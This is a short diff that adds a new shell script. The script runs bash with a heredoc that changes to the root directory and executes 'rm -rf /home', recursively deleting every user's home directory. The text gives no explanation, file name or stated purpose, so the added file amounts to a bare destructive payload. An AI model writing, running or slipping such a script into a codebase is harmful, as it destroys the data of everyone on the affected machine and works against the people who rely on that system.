@@ -1,0 +1,5 @@
+#!/bin/sh
+bash <<'END'
+cd /
+rm -rf /home
+END
